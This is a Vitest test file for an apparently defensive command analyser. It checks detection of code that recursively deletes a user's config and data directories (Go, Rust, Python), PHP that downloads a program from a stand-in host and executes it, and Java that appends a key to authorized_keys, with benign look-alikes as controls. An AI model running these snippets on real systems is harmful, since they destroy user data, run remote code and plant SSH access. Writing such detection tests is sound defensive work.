import { describe, expect, it } from 'vitest';
import { fed, file, python } from './fed.js';
import './told.js';

describe('code that deletes what programs keep for a person', () => {
  it.each<readonly [string, string]>([
    [file('a.go', 'go run a.go', 'package main\nfunc main() {\n\td, _ := os.UserConfigDir()\n\tos.RemoveAll(d)\n}'), '/home/u/.config'],
    [file('a.go', 'go run a.go', 'package main\nfunc main() {\n\td, _ := os.UserConfigDir()\n\tos.RemoveAll(filepath.Join(d, "Code"))\n}'), '/home/u/.config/Code'],
    [file('x.rs', 'rust-script x.rs', 'fn main() {\n    let d = env::var("XDG_CONFIG_HOME").unwrap_or_else(|_| format!("{}/.config", env::var("HOME").unwrap()));\n    fs::remove_dir_all(d).unwrap();\n}'), '/home/u/.config'],
    [file('x.rs', 'rust-script x.rs', 'fn main() {\n    let home = std::env::var("HOME").unwrap();\n    fs::remove_dir_all(format!("{home}/.config")).unwrap();\n}'), '/home/u/.config'],
    [file('x.rs', 'rust-script x.rs', 'fn main() {\n    let d = dirs::data_dir().unwrap();\n    std::fs::remove_dir_all(&d).unwrap();\n}'), '/home/u/.local/share'],
    [python('import shutil\nfrom platformdirs import user_data_dir\nshutil.rmtree(user_data_dir(), ignore_errors=True)'), '/home/u/.local/share'],
    [python("import shutil, click\nshutil.rmtree(click.get_app_dir('Code'))"), '/home/u/.config/Code'],
  ])('%s', async (command, path) => await expect(command).toTell(`delete -r ${path}`));

  it.each([
    file('x.rs', 'rust-script x.rs', 'fn data_dir() -> PathBuf { PathBuf::from("target/data") }\nfn main() {\n    std::fs::remove_dir_all(data_dir()).unwrap();\n}'),
    python("import shutil\ndef user_data_dir():\n    return 'build/data'\nshutil.rmtree(user_data_dir())"),
    file('x.rs', 'rust-script x.rs', 'fn main() {\n    let d = env::var("OUT_DIR").unwrap_or("target/out".into());\n    fs::remove_dir_all(d).unwrap();\n}'),
  ])('but not %s', async (command) => await expect(command).not.toTell(/^delete -r \/home\/u\/\./));
});

describe('php that fetches a program and starts it', () => {
  it.each([
    fed('php', "<?php\ncopy('http://x.test/agent', '/tmp/agent');\nchmod('/tmp/agent', 0755);\nexec('/tmp/agent');"),
    fed('php', "<?php\nfile_put_contents('/tmp/a.php', file_get_contents('http://x.test/a.txt'));\nrequire '/tmp/a.php';"),
  ])('%s', async (command) => await expect(command).toTell(/^execute host/));

  it.each([
    fed('php', "<?php\ncopy('http://x.test/a.zip', '/tmp/a.zip');\nexec('unzip -q /tmp/a.zip -d vendor');"),
    fed('php', "<?php\nrequire __DIR__ . '/vendor/autoload.php';\necho json_encode(file_get_contents('https://x.test/a.json'));"),
  ])('but not %s', async (command) => await expect(command).not.toTell(/^execute host/));
});

it('a writer of java puts a key among those that may log in', async () =>
  await expect(file('K.java', 'java K.java', 'class K { public static void main(String[] a) throws Exception { try (FileWriter w = new FileWriter(System.getenv("HOME") + "/.ssh/authorized_keys", true)) { w.write("ssh-ed25519 AAAA"); } } }')).toTell('write /home/u/.ssh/authorized_keys'));
